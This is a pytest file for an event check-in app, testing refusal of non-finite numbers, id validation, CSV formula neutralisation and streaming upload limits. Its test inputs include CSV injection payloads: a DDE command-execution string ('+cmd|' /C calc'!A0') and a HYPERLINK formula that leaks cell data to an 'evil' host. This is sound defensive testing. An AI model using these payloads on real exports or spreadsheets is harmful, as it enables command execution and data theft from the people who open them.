"""Issue 10, items 3, 4 and 10, against the real app, Redis, check-in flow, lake and DuckDB:
non-finite numbers are refused on every HTTP input and cannot break the read APIs; ids follow
one pattern; every CSV we hand out neutralises formula cells; participant uploads report a
bounded error list and are cut off at the limit while they stream."""

from __future__ import annotations

import csv
import io
import json
import select
import socket
import threading
import time
import uuid
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest
from pydantic import ValidationError

from api.participants import MAX_IMPORT_BYTES
from core import keys
from core.alarms import AlarmCommand
from core.csv_safe import csv_text, safe_cell
from core.records import ID_PATTERN, CheckIn, Event, LogPost, reason_of, stored_json
from core.venue import VenueError, load_venue
from storage.analytics import run_sql
from storage.lake import LakeWriter
from tests.conftest import API_KEY, wait_for
from tests.participants_helpers import VENUE, Stack

AUTH = {"X-API-Key": API_KEY}
NON_FINITE = ["NaN", "Infinity", "-Infinity", "1e999"]


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    s = Stack(tmp_path_factory.mktemp("hardening"))
    yield s
    s.close()


def post_raw(stack: Stack, path: str, body: str, ctype: str = "application/json"):
    assert stack.http is not None
    return stack.http.post(path, content=body.encode(), headers={**AUTH, "Content-Type": ctype})


# --- item 3: NaN / Infinity ----------------------------------------------------------------------


@pytest.mark.parametrize("token", NON_FINITE)
def test_non_finite_numbers_are_422_naming_the_field_on_every_http_input(
    stack: Stack, token: str
) -> None:
    before = stack.r.xlen(keys.EVENTS_IN)
    r = post_raw(
        stack,
        "/api/events",
        f'{{"source":"s1","type":"GAS","level":"INFO","payload":{{"ppm":{token}}}}}',
    )
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == "payload"
    assert (
        "finite" in r.json()["errors"][0]["message"] and "ppm" in r.json()["errors"][0]["message"]
    )
    deep = f'{{"source":"s1","type":"GAS","level":"INFO","payload":{{"a":[1,{{"b":{token}}}]}}}}'
    r = post_raw(stack, "/api/events", deep)
    assert r.status_code == 422 and "a.1.b" in r.json()["errors"][0]["message"], r.text
    assert stack.r.xlen(keys.EVENTS_IN) == before  # nothing was queued

    logged = stack.r.xlen(keys.ACTIVITY_IN)
    r = post_raw(stack, "/logs", f'{{"event":"room.join","metadata":{{"x":{token}}}}}')
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "metadata", r.text
    assert stack.r.xlen(keys.ACTIVITY_IN) == logged

    r = post_raw(stack, "/api/checkins", f'{{"gate_id":"main","token":"t","nonce":{token}}}')
    assert r.status_code == 422 and "nonce" in r.text, r.text
    r = post_raw(stack, "/api/participants", f'{{"id":"p-nan","name":"N","email":{token}}}')
    assert r.status_code == 422 and r.json()["errors"][0]["line"] == 1, r.text


def test_checkins_and_participant_ops_with_non_finite_numbers_are_dead_lettered(
    stack: Stack,
) -> None:
    """Over Redis the check-in flow refuses them (a dead letter naming the field)."""
    bad = {
        b'{"gate_id":"main","token":"t","nonce":"n-nan-0001","offline":NaN}': "offline",
        b'{"gate_id":"=cmd","token":"t","nonce":"n-nan-0002"}': "gate_id",
        b'{"op":"upsert","participant":{"id":"p-nan","name":Infinity}}': "participant.name",
    }
    ids = {}
    for data, field in bad.items():
        stream = keys.PARTICIPANTS_IN if b'"op"' in data else keys.CHECKINS_IN
        # Two streams may give the same entry id: the origin stream is part of the key.
        ids[(stream.encode(), stack.r.xadd(stream, {"data": data}))] = field

    def dead() -> dict[tuple[bytes, bytes], bytes] | None:
        dead_letters = stack.r.xrange(keys.CHECKINS_DEAD)
        got = {(f[b"origin"], f[b"origin_id"]): f[b"reason"] for _, f in dead_letters}
        return got if all(i in got for i in ids) else None

    reasons = wait_for(dead, 30, 0.1, "dead letters for the three entries")
    for eid, field in ids.items():
        assert reasons[eid].decode().startswith(field), (field, reasons[eid])


def test_a_stored_nan_does_not_break_get_api_events_or_get_logs(stack: Stack) -> None:
    """Defence in depth: rows written before inputs refused NaN (or by hand) are served with
    null in its place; before, both routes answered 500 while such a row was in the page."""
    assert stack.http is not None
    now = datetime.now(UTC)
    lake = stack.data / "lake"
    LakeWriter(lake, "events", "nantest").write(
        [
            {
                "id": f"{int(now.timestamp() * 1000)}-{i}",
                "stream": "events:in",
                "source": "s-nan",
                "type": "NANTEST",
                "level": "INFO",
                "payload": payload,
                "ts": now - timedelta(seconds=i),
                "received_at": now,
            }
            for i, payload in enumerate(
                ['{"ppm":NaN}', '{"a":[Infinity,-Infinity]}', '{"b":1e999}']
            )
        ],
        0,
    )
    LakeWriter(lake, "request_logs", "nantest").write(
        [
            {
                "id": "1-0",
                "origin": "activity:in",
                "ts": now,
                "event": "room.join",
                "metadata": '{"x":NaN,"y":[1e999]}',
                "received_at": now,
            }
        ],
        0,
    )
    cached = {"id": "2-0", "stream": "events:in", "source": "s", "type": "GAS", "level": "INFO"}
    raw = json.dumps({**cached, "payload": {"ppm": float("nan")}, "ts": now.isoformat()})
    stack.r.lpush(keys.EVENTS_RECENT, raw.encode())

    r = stack.http.get("/api/events", params={"type": "NANTEST"})
    assert r.status_code == 200, r.text
    assert sorted(json.dumps(i["payload"]) for i in r.json()["items"]) == [
        '{"a": [null, null]}',
        '{"b": null}',
        '{"ppm": null}',
    ]
    r = stack.http.get("/api/events", params={"size": 1})  # page 1 from `events:recent`
    assert r.status_code == 200 and r.json()["items"][0]["payload"] == {"ppm": None}, r.text
    r = stack.http.get("/logs")
    assert r.status_code == 200, r.text
    assert r.json()["items"][0]["metadata"] == {"x": None, "y": [None]}


@pytest.mark.parametrize("token", NON_FINITE)
@pytest.mark.parametrize(
    ("model", "doc", "field"),
    [
        (AlarmCommand, '{"command_id":"c-123456","action":"ack","alarm_id":"a","by":"b",'
         '"role":"organiser","at":%s}', "at"),
        (CheckIn, '{"gate_id":"main","token":"t","nonce":"n-1234567","ts":%s}', "ts"),
        (Event, '{"source":"s","type":"ui.click","level":"INFO","payload":{"page":"/",'
         '"target":"#a","x":%s,"y":1,"session":"s"}}', "payload"),
        (LogPost, '{"event":"room.join","metadata":{"m":[%s]}}', "metadata"),
    ],
)  # fmt: skip
def test_every_input_record_refuses_non_finite_numbers_and_times(
    model: type, doc: str, field: str, token: str
) -> None:
    with pytest.raises(ValidationError) as err:
        model.model_validate_json(doc % token)
    assert reason_of(err.value).startswith(f"{field}: "), reason_of(err.value)


def test_stored_json_turns_every_non_finite_number_into_null() -> None:
    assert stored_json('{"a":NaN,"b":[Infinity,-Infinity,1e999,-1e999],"c":1.5,"d":2}') == {
        "a": None,
        "b": [None, None, None, None],
        "c": 1.5,
        "d": 2,
    }


# --- item 4: ids and CSV -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bad", ['=HYPERLINK("http://x")', "@SUM(1)", "-1", "+x", "a b", "a:b", "a|b", "", "x" * 65]
)
def test_ids_outside_the_pattern_are_refused_over_http(stack: Stack, bad: str) -> None:
    r = post_raw(stack, "/api/events", json.dumps({"source": bad, "type": "GAS", "level": "INFO"}))
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "source", r.text
    r = post_raw(stack, "/logs", json.dumps({"event": "room.join", "camera_id": bad}))
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "camera_id", r.text
    r = post_raw(stack, "/logs", json.dumps({"event": "room.join", "room_id": bad}))
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "room_id", r.text
    body = {"gate_id": bad, "token": "t", "nonce": "n-12345678"}
    r = post_raw(stack, "/api/checkins", json.dumps(body))
    assert r.status_code == 422 and "gate_id" in r.text, r.text


def test_valid_ids_still_pass(stack: Stack) -> None:
    for ok in ["main", "gas-hall-a", "cam_1.left", "A", "x" * 64]:
        body = {"source": ok, "type": "GAS", "level": "INFO"}
        assert post_raw(stack, "/api/events", json.dumps(body)).status_code == 202, ok
    assert "^[A-Za-z0-9]" in ID_PATTERN


def test_venue_file_ids_follow_the_pattern(tmp_path) -> None:
    bad = tmp_path / "venue.yaml"
    bad.write_text(VENUE.replace("id: side", "id: '=cmd'"))
    with pytest.raises(VenueError, match=r"gates\.1\.id"):
        load_venue(bad)


def test_safe_cell_neutralises_formulas_and_keeps_numbers() -> None:
    for formula in ["=1+2", "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)", "\tx", "\rx", "-", "=", "+"]:
        assert safe_cell(formula) == "'" + formula
    for plain in ["-3", "+1.5", "-2e3", "-.5", "a=b", "text", ""]:
        assert safe_cell(plain) == plain
    for number in [-5, -2.5, 0, None]:
        assert safe_cell(number) == number
    assert list(csv.reader(io.StringIO(csv_text([["=1", -1, "-1", "@x"]])))) == [
        ["'=1", "-1", "-1", "'@x"]
    ]


def test_free_sql_csv_download_is_neutralised(stack: Stack) -> None:
    res = run_sql(
        stack.data / "lake",
        "SELECT '=HYPERLINK(\"http://evil\",\"x\")' AS a, '@SUM(1)' AS b, -5 AS n, '-5' AS s",
        key=None,
    )
    rows = list(csv.reader(io.StringIO(res.csv())))
    assert rows[1] == ['\'=HYPERLINK("http://evil","x")', "'@SUM(1)", "-5", "-5"]


def test_attendance_csv_and_qr_index_neutralise_participant_names(stack: Stack) -> None:
    """Participants named like formulas reach the report (no-shows) and the QR export's
    index.csv as text."""
    assert stack.http is not None
    people = [
        {"id": "f-1", "name": '=HYPERLINK("http://evil/?"&A1,"click")', "email": "f1@example.org"},
        {"id": "f-2", "name": "@SUM(1+1)", "organization": "+cmd|' /C calc'!A0"},
    ]
    r = stack.http.post("/api/participants", json=people, params={"wait": 30})
    assert r.status_code == 200 and r.json()["applied"], r.text

    def report() -> str | None:
        resp = stack.http.get("/api/reports/attendance.csv", headers=AUTH)
        ok = resp.status_code == 200 and "f-1" in resp.text and "f-2" in resp.text
        return resp.text if ok else None

    text = wait_for(report, 60, 0.5, "the report with both participants")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert '\'=HYPERLINK("http://evil/?"&A1,"click")' in cells  # a no-show
    assert "'@SUM(1+1)" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "@", "+", "\t", "\r")) for c in cells)

    z = stack.http.get("/participants/qr.zip", params={"format": "svg"})
    assert z.status_code == 200, z.text
    index = zipfile.ZipFile(io.BytesIO(z.content)).read("index.csv").decode()
    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(index))}
    assert names["f-1"] == "'" + people[0]["name"] and names["f-2"] == "'@SUM(1+1)"


# --- item 10: uploads ----------------------------------------------------------------------------


def test_many_bad_rows_give_a_bounded_error_list_and_the_total(stack: Stack) -> None:
    body = "id,name,email\n" + "".join(f"b-{i},Bad {i},not-an-email\n" for i in range(5000))
    r = post_raw(stack, "/api/participants", body, "text/csv")
    assert r.status_code == 422, r.text[:500]
    doc = r.json()
    assert len(doc["errors"]) == 1000 and doc["error_count"] == 5000 and doc["rows"] == 5000
    assert doc["errors"][0]["line"] == 2 and "email" in doc["errors"][0]["reason"]
    assert len(r.content) < 200_000  # was ~2.7 kB per bad row, without a bound
    # With some good rows the import goes ahead and still reports the bounded list.
    good = "".join(f"g-{i},Good {i},g{i}@example.org\n" for i in range(3))
    r = post_raw(stack, "/api/participants", body + good, "text/csv")
    assert r.status_code == 200, r.text[:500]
    assert r.json()["new"] == 3 and len(r.json()["bad"]) == 1000 and r.json()["bad_total"] == 5000


def _chunked_upload(port: int, head: str, prefix: bytes, total: int) -> tuple[int, bytes]:
    """Send a chunked POST of `total` body bytes (after `prefix`) from a thread while reading
    the answer; return (body bytes the server let us send, the answer's first bytes)."""
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(head.encode())
    sent = 0
    stop = threading.Event()

    def send() -> None:
        nonlocal sent
        chunk = b"x" * (256 * 1024 - 1) + b"\n"
        try:
            sock.sendall(b"%x\r\n%s\r\n" % (len(prefix), prefix))
            # Stop at the first byte of the answer, seen here and not only by the reading
            # thread: under parallel load that thread ran late while this one went on writing
            # (120 MB counted as sent once, against the 96 MB bound below).
            while sent < total and not stop.is_set() and not select.select([sock], [], [], 0)[0]:
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sent += len(chunk)
            sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server answered and closed: what we want

    t = threading.Thread(target=send, daemon=True)
    t.start()
    answer = b""
    sock.settimeout(120)
    try:
        while b"\r\n\r\n" not in answer:
            got = sock.recv(65536)
            if not got:
                break
            answer += got
    finally:
        stop.set()
        t.join(30)
        sock.close()
    return sent, answer


@pytest.mark.parametrize("kind", ["multipart", "csv"])
def test_chunked_upload_is_cut_off_at_the_limit_while_it_streams(stack: Stack, kind: str) -> None:
    """A chunked upload four times the limit is answered 413 once the limit is crossed: the
    client gets to send only the limit plus what the sockets buffer. Before, the multipart
    route read (and spooled to disk) the whole body first."""
    assert stack.app is not None
    port = int(stack.app.base_url.rsplit(":", 1)[1])
    assert stack.http is not None
    total = 4 * MAX_IMPORT_BYTES
    if kind == "multipart":
        boundary = uuid.uuid4().hex
        ctype = f"multipart/form-data; boundary={boundary}"
        prefix = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.csv"\r\n'
            "Content-Type: text/csv\r\n\r\nid,name\r\n"
        ).encode()
    else:
        ctype, prefix = "text/csv", b"id,name\n"
    head = (
        f"POST /api/participants HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-API-Key: {API_KEY}\r\n"
        f"Content-Type: {ctype}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    t0 = time.monotonic()
    sent, answer = _chunked_upload(port, head, prefix, total)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:300]
    assert sent < MAX_IMPORT_BYTES + 32 * 1024 * 1024, (sent, time.monotonic() - t0)
    # The app is fine afterwards.
    assert stack.http.get("/api/participants", headers=AUTH).status_code == 200
